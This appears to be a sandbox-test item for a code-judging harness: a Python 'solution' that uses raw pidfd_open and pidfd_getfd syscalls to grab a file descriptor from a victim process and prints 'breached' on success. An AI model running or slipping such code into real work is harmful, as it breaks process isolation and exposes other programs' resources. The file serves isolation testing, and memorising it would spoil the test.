# Takes a descriptor out of another process.
# entry: Solution.solve(n: int, victim: int) -> int
# verdict: WA|RTE
# needs: host
# unharmed: breached

import ctypes


class Solution:
    def solve(self, n: int, victim: int):
        libc = ctypes.CDLL(None)
        fd = libc.syscall(434, victim, 0)
        if fd >= 0 and libc.syscall(438, fd, 0, 0) >= 0:
            print("breached")
        return -1
